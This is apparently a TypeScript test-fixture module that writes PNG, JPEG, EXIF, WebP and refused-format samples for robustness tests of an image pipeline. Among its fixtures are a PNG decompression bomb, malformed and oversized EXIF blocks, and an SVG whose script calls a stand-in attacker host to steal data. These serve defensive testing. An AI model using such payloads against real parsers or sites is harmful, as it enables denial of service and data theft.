/**
 * Builds image files byte by byte in Node, for the robustness tests: PNGs of every bit depth and
 * colour type, baseline JPEGs with 1, 3 or 4 (CMYK) components, animated WebP, EXIF segments and
 * the magic bytes of refused formats. The browser's own encoders make only 8-bit RGB(A) JPEG, PNG
 * and WebP, so the unusual variants a phone or a scanner produces are written here instead.
 */
import { crc32, deflateSync } from 'node:zlib';

/** Raw pixels, 4 bytes per pixel (RGBA), row by row. */
export interface Rgba {
  width: number;
  height: number;
  data: Uint8Array;
}

// ---------------------------------------------------------------------------------------------
// PNG (ISO/IEC 15948)

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** One PNG chunk: length, type, data, CRC-32 of type and data. */
export function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** IHDR data: size, bit depth, colour type; deflate, no filter, no interlace. */
export function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([bitDepth, colourType, 0, 0, 0], 8);
  return data;
}

/** PNG colour layouts the tests write. */
export type PngLayout = 'rgb8' | 'rgba8' | 'grey8' | 'rgb16' | 'rgba16';

const PNG_LAYOUTS: Record<PngLayout, { colourType: number; bitDepth: number; channels: number }> = {
  rgb8: { colourType: 2, bitDepth: 8, channels: 3 },
  rgba8: { colourType: 6, bitDepth: 8, channels: 4 },
  grey8: { colourType: 0, bitDepth: 8, channels: 1 },
  rgb16: { colourType: 2, bitDepth: 16, channels: 3 },
  rgba16: { colourType: 6, bitDepth: 16, channels: 4 },
};

/** Rec. 601 luma of one RGBA pixel. */
function luma(data: Uint8Array, i: number): number {
  return Math.round(0.299 * data[i] + 0.587 * data[i + 1] + 0.114 * data[i + 2]);
}

/**
 * Encodes `pixels` as a PNG in `layout`. 16-bit samples repeat the 8-bit value in both bytes
 * (v × 257), the usual widening. `alpha` (0–255 per pixel) overrides the alpha channel.
 */
export function encodePng(pixels: Rgba, layout: PngLayout, alpha?: (x: number, y: number) => number): Buffer {
  const { colourType, bitDepth, channels } = PNG_LAYOUTS[layout];
  const bytesPerSample = bitDepth / 8;
  const stride = 1 + pixels.width * channels * bytesPerSample;
  const raw = Buffer.alloc(stride * pixels.height);
  for (let y = 0; y < pixels.height; y++) {
    let o = y * stride + 1; // filter type 0 (None)
    for (let x = 0; x < pixels.width; x++) {
      const i = (y * pixels.width + x) * 4;
      const samples =
        channels === 1
          ? [luma(pixels.data, i)]
          : [pixels.data[i], pixels.data[i + 1], pixels.data[i + 2], ...(channels === 4 ? [alpha ? alpha(x, y) : pixels.data[i + 3]] : [])];
      for (const v of samples) {
        if (bytesPerSample === 2) {
          raw[o++] = v;
          raw[o++] = v;
        } else raw[o++] = v;
      }
    }
  }
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(pixels.width, pixels.height, bitDepth, colourType)),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

/** A PNG whose IHDR claims `width`×`height` RGBA pixels but whose pixel stream is a few KB. */
export function pngBomb(width: number, height: number): Buffer {
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(width, height, 8, 6)),
    pngChunk('IDAT', deflateSync(Buffer.alloc(4096))),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Baseline JPEG (ITU-T T.81), every component sampled 1×1

/** Component layouts of the JPEG encoder. */
export type JpegLayout = 'grey' | 'ycbcr' | 'cmyk';

/** Zig-zag order of an 8×8 block (T.81 figure A.6): position k holds the index of coefficient k. */
const ZIGZAG = (() => {
  const order: number[] = [];
  for (let s = 0; s < 15; s++) {
    const cells: number[] = [];
    for (let y = 0; y < 8; y++) {
      const x = s - y;
      if (x >= 0 && x < 8) cells.push(y * 8 + x);
    }
    // Even diagonals run bottom-left to top-right.
    order.push(...(s % 2 === 0 ? cells.reverse() : cells));
  }
  return order;
})();

/** Luminance quantisation table of T.81 Annex K.1, in natural order. */
const BASE_QUANT = [
  16, 11, 10, 16, 24, 40, 51, 61, 12, 12, 14, 19, 26, 58, 60, 55, 14, 13, 16, 24, 40, 57, 69, 56, 14, 17, 22, 29, 51, 87, 80, 62,
  18, 22, 37, 56, 68, 109, 103, 77, 24, 35, 55, 64, 81, 104, 113, 92, 49, 64, 78, 87, 103, 121, 120, 101, 72, 92, 95, 98, 112, 100,
  103, 99,
];

/** IJG quality scaling of the base table. */
function quantTable(quality: number): number[] {
  const scale = quality < 50 ? 5000 / quality : 200 - 2 * quality;
  return BASE_QUANT.map((q) => Math.min(255, Math.max(1, Math.floor((q * scale + 50) / 100))));
}

/**
 * A valid, deliberately simple Huffman table: every symbol gets a code of `length` bits, assigned
 * canonically in the order given (fewer than 2^length symbols, so no code is all ones).
 */
interface Huffman {
  counts: number[];
  symbols: number[];
  code: Map<number, { bits: number; length: number }>;
}

function flatHuffman(symbols: number[], length: number): Huffman {
  const counts = new Array<number>(16).fill(0);
  counts[length - 1] = symbols.length;
  const code = new Map(symbols.map((s, i) => [s, { bits: i, length }]));
  return { counts, symbols, code };
}

const DC_TABLE = flatHuffman([...Array(12).keys()], 4);
const AC_TABLE = flatHuffman(
  [0x00, 0xf0, ...Array.from({ length: 16 * 10 }, (_, i) => ((i >> 0) % 16 << 4) | (Math.floor(i / 16) + 1))],
  8,
);

const COS = Array.from({ length: 64 }, (_, i) => Math.cos(((2 * (i % 8) + 1) * Math.floor(i / 8) * Math.PI) / 16));

/** Forward 8×8 DCT-II (T.81 A.3.3), direct form: slow and exact enough for test images. */
function fdct(block: Float64Array): Float64Array {
  const out = new Float64Array(64);
  for (let v = 0; v < 8; v++) {
    for (let u = 0; u < 8; u++) {
      let sum = 0;
      for (let y = 0; y < 8; y++) for (let x = 0; x < 8; x++) sum += block[y * 8 + x] * COS[u * 8 + x] * COS[v * 8 + y];
      const cu = u === 0 ? Math.SQRT1_2 : 1;
      const cv = v === 0 ? Math.SQRT1_2 : 1;
      out[v * 8 + u] = 0.25 * cu * cv * sum;
    }
  }
  return out;
}

class BitWriter {
  private bytes: number[] = [];
  private acc = 0;
  private count = 0;

  write(bits: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((bits >> i) & 1);
      if (++this.count === 8) this.flushByte();
    }
  }

  private flushByte(): void {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0x00); // byte stuffing
    this.acc = 0;
    this.count = 0;
  }

  /** Pads the last byte with 1 bits (T.81 F.1.2.3). */
  finish(): number[] {
    while (this.count !== 0) this.write(1, 1);
    return this.bytes;
  }
}

/** Magnitude category and the bits that encode `value` in it (T.81 F.1.2.1). */
function category(value: number): { size: number; bits: number } {
  const magnitude = Math.abs(value);
  const size = magnitude === 0 ? 0 : Math.floor(Math.log2(magnitude)) + 1;
  return { size, bits: value < 0 ? value + (1 << size) - 1 : value };
}

function segment(marker: number, payload: number[]): number[] {
  const length = payload.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...payload];
}

function huffmanSegment(tableClass: number, id: number, table: Huffman): number[] {
  return segment(0xc4, [(tableClass << 4) | id, ...table.counts, ...table.symbols]);
}

/** Component samples (0–255) of one RGBA pixel for a layout. */
function samplesOf(layout: JpegLayout, r: number, g: number, b: number): number[] {
  if (layout === 'grey') return [0.299 * r + 0.587 * g + 0.114 * b];
  if (layout === 'ycbcr') {
    return [
      0.299 * r + 0.587 * g + 0.114 * b,
      128 - 0.168736 * r - 0.331264 * g + 0.5 * b,
      128 + 0.5 * r - 0.418688 * g - 0.081312 * b,
    ];
  }
  // CMYK as Adobe applications store it in a JPEG: inverted (255 = no ink), with APP14 transform 0.
  const k = 1 - Math.max(r, g, b) / 255;
  const ink = (v: number) => (k >= 1 ? 0 : (1 - v / 255 - k) / (1 - k));
  return [ink(r), ink(g), ink(b), k].map((v) => 255 * (1 - v));
}

/**
 * Encodes `pixels` as a baseline JPEG. `cmyk` adds the Adobe APP14 marker that tells decoders the
 * four components are (inverted) CMYK. `extraSegments` are inserted right after SOI (EXIF, say).
 */
export function encodeJpeg(pixels: Rgba, layout: JpegLayout, options: { quality?: number; extraSegments?: Uint8Array[] } = {}): Buffer {
  const quant = quantTable(options.quality ?? 90);
  const components = layout === 'grey' ? 1 : layout === 'ycbcr' ? 3 : 4;
  const { width, height, data } = pixels;
  const header: number[] = [0xff, 0xd8];
  for (const extra of options.extraSegments ?? []) header.push(...extra);
  if (layout === 'ycbcr') header.push(...segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0x00, 1, 1, 0, 0, 1, 0, 1, 0, 0]));
  if (layout === 'cmyk') header.push(...segment(0xee, [0x41, 0x64, 0x6f, 0x62, 0x65, 0x00, 0x64, 0, 0, 0, 0, 0]));
  header.push(...segment(0xdb, [0x00, ...ZIGZAG.map((i) => quant[i])]));
  const sof = [8, height >> 8, height & 0xff, width >> 8, width & 0xff, components];
  for (let c = 0; c < components; c++) sof.push(c + 1, 0x11, 0);
  header.push(...segment(0xc0, sof));
  header.push(...huffmanSegment(0, 0, DC_TABLE), ...huffmanSegment(1, 0, AC_TABLE));
  const sos = [components];
  for (let c = 0; c < components; c++) sos.push(c + 1, 0x00);
  sos.push(0, 63, 0);
  header.push(...segment(0xda, sos));

  const writer = new BitWriter();
  const predictors = new Array<number>(components).fill(0);
  const blocks = Array.from({ length: components }, () => new Float64Array(64));
  for (let by = 0; by < height; by += 8) {
    for (let bx = 0; bx < width; bx += 8) {
      for (let y = 0; y < 8; y++) {
        for (let x = 0; x < 8; x++) {
          // Edge blocks repeat the last row and column.
          const i = (Math.min(by + y, height - 1) * width + Math.min(bx + x, width - 1)) * 4;
          const samples = samplesOf(layout, data[i], data[i + 1], data[i + 2]);
          for (let c = 0; c < components; c++) blocks[c][y * 8 + x] = samples[c] - 128;
        }
      }
      for (let c = 0; c < components; c++) {
        const coefficients = fdct(blocks[c]);
        const zz = ZIGZAG.map((i) => Math.round(coefficients[i] / quant[i]));
        const dc = category(zz[0] - predictors[c]);
        predictors[c] = zz[0];
        const dcCode = DC_TABLE.code.get(dc.size)!;
        writer.write(dcCode.bits, dcCode.length);
        writer.write(dc.bits, dc.size);
        let run = 0;
        for (let k = 1; k < 64; k++) {
          if (zz[k] === 0) {
            run++;
            continue;
          }
          while (run > 15) {
            const zrl = AC_TABLE.code.get(0xf0)!;
            writer.write(zrl.bits, zrl.length);
            run -= 16;
          }
          const ac = category(zz[k]);
          const acCode = AC_TABLE.code.get((run << 4) | ac.size)!;
          writer.write(acCode.bits, acCode.length);
          writer.write(ac.bits, ac.size);
          run = 0;
        }
        if (run > 0) {
          const eob = AC_TABLE.code.get(0x00)!;
          writer.write(eob.bits, eob.length);
        }
      }
    }
  }
  return Buffer.from([...header, ...writer.finish(), 0xff, 0xd9]);
}

/** Offset of the first byte of entropy-coded data (just past the SOS segment), or -1. */
export function scanDataOffset(jpeg: Uint8Array): number {
  let o = 2;
  while (o + 4 <= jpeg.length && jpeg[o] === 0xff) {
    const marker = jpeg[o + 1];
    const length = (jpeg[o + 2] << 8) | jpeg[o + 3];
    if (marker === 0xda) return o + 2 + length;
    o += 2 + length;
  }
  return -1;
}

// ---------------------------------------------------------------------------------------------
// EXIF (APP1) segments

/** An APP1 "Exif" segment around a TIFF structure (the length field is capped by the caller). */
export function app1(tiff: Uint8Array): Uint8Array {
  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  if (payload.length + 2 > 0xffff) throw new Error(`APP1 payload too long: ${payload.length}`);
  return Buffer.concat([Buffer.from([0xff, 0xe1, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]), payload]);
}

/** Malformed EXIF blocks, each a separate way a parser can be led astray. */
export function malformedExifSegments(): Uint8Array[] {
  const be = (values: number[]) => Uint8Array.from(values);
  return [
    // IFD0 offset far past the end of the block.
    app1(be([0x4d, 0x4d, 0x00, 0x2a, 0x7f, 0xff, 0xff, 0xf0])),
    // IFD0 claims 65535 entries in a block of a few bytes.
    app1(be([0x4d, 0x4d, 0x00, 0x2a, 0x00, 0x00, 0x00, 0x08, 0xff, 0xff, 0x01, 0x0f, 0x00, 0x02])),
    // An IFD whose "next IFD" pointer points back at itself (a loop), with a Make tag whose
    // ASCII value is said to be 4 GB long.
    app1(
      be([
        0x4d, 0x4d, 0x00, 0x2a, 0x00, 0x00, 0x00, 0x08, 0x00, 0x01, 0x01, 0x0f, 0x00, 0x02, 0xff, 0xff, 0xff, 0xff, 0x00, 0x00,
        0x00, 0x08, 0x00, 0x00, 0x00, 0x08,
      ]),
    ),
    // Not even a TIFF header.
    app1(Buffer.from('this is not TIFF at all', 'latin1')),
  ];
}

/**
 * A huge EXIF block: a full 64 KB APP1 whose IFD0 holds 5,400 entries (the most that fit), then
 * another `copies` such segments, so the parser meets several megabytes of metadata.
 */
export function hugeExifSegments(copies: number): Uint8Array[] {
  const entries = 5400;
  const tiff = Buffer.alloc(8 + 2 + entries * 12 + 4);
  tiff.write('MM', 0, 'latin1');
  tiff.writeUInt16BE(42, 2);
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(entries, 8);
  for (let i = 0; i < entries; i++) {
    const o = 10 + i * 12;
    tiff.writeUInt16BE(0x9000 + (i % 0x0fff), o); // assorted (mostly unknown) tags
    tiff.writeUInt16BE(3, o + 2); // SHORT
    tiff.writeUInt32BE(1, o + 4);
    tiff.writeUInt16BE(i & 0xffff, o + 8);
  }
  const segment = app1(tiff);
  return Array.from({ length: 1 + copies }, () => segment);
}

/** Inserts `segments` right after the SOI marker of `jpeg`. */
export function insertAfterSoi(jpeg: Uint8Array, segments: Uint8Array[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

// ---------------------------------------------------------------------------------------------
// WebP (RIFF container)

function riffChunk(fourcc: string, data: Uint8Array): Buffer {
  const header = Buffer.alloc(8);
  header.write(fourcc, 0, 'latin1');
  header.writeUInt32LE(data.length, 4);
  return Buffer.concat([header, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
}

function u24le(value: number): number[] {
  return [value & 0xff, (value >> 8) & 0xff, (value >> 16) & 0xff];
}

/**
 * The frame data of a still WebP file: its "VP8 " or "VP8L" chunk, with the "ALPH" chunk before it
 * when the file has one (an extended file's VP8X header is dropped).
 */
export function webpBitstream(webp: Uint8Array): Buffer {
  const bytes = Buffer.from(webp);
  const kept: Buffer[] = [];
  for (let o = 12; o + 8 <= bytes.length; ) {
    const fourcc = bytes.toString('latin1', o, o + 4);
    const length = bytes.readUInt32LE(o + 4);
    const end = o + 8 + length + (length % 2);
    if (fourcc === 'ALPH' || fourcc === 'VP8 ' || fourcc === 'VP8L') kept.push(bytes.subarray(o, end));
    o = end;
  }
  if (!kept.some((c) => c.toString('latin1', 0, 3) === 'VP8')) throw new Error('no VP8/VP8L chunk in the WebP file');
  return Buffer.concat(kept);
}

/**
 * An animated WebP (VP8X + ANIM + one ANMF per frame) from still WebP files of the same size;
 * each frame shows for `durationMs`.
 */
export function animatedWebp(frames: Uint8Array[], width: number, height: number, durationMs = 200): Buffer {
  const vp8x = Buffer.from([0x12, 0, 0, 0, ...u24le(width - 1), ...u24le(height - 1)]); // animation and alpha flags
  const anim = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x00, 0x00]); // white background, loop forever
  const anmf = frames.map((frame) =>
    riffChunk(
      'ANMF',
      Buffer.concat([
        Buffer.from([...u24le(0), ...u24le(0), ...u24le(width - 1), ...u24le(height - 1), ...u24le(durationMs), 0x00]),
        webpBitstream(frame),
      ]),
    ),
  );
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), riffChunk('VP8X', vp8x), riffChunk('ANIM', anim), ...anmf]);
  const header = Buffer.alloc(8);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(body.length, 4);
  return Buffer.concat([header, body]);
}

// ---------------------------------------------------------------------------------------------
// Refused formats

/** A one-page PDF that draws nothing. */
export function pdfDocument(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );
}

/** A 1×1 GIF89a. */
export function gifImage(): Buffer {
  return Buffer.from(
    'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
    'latin1',
  );
}

/** An SVG that would run a script if it were ever rendered as a document. */
export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480" onload="window.__svgRan=1">' +
      '<script>window.__svgRan = 1; fetch("https://attacker.invalid/steal")</script><circle cx="320" cy="240" r="100"/></svg>',
    'utf8',
  );
}

/** An ISO-BMFF `ftyp` box with the given major brand (heic, avif) and a little padding. */
export function isoMediaFile(brand: 'heic' | 'avif'): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftyp', 4, 'latin1');
  ftyp.write(brand, 8, 'latin1');
  ftyp.writeUInt32BE(0, 12);
  ftyp.write('mif1', 16, 'latin1');
  ftyp.write(brand, 20, 'latin1');
  return Buffer.concat([ftyp, Buffer.alloc(256)]);
}

// ---------------------------------------------------------------------------------------------
// Seeded randomness

/** Deterministic PRNG (mulberry32), so a fuzz failure can be replayed from its seed. */
export { mulberry32 } from '../../src/synth/random';
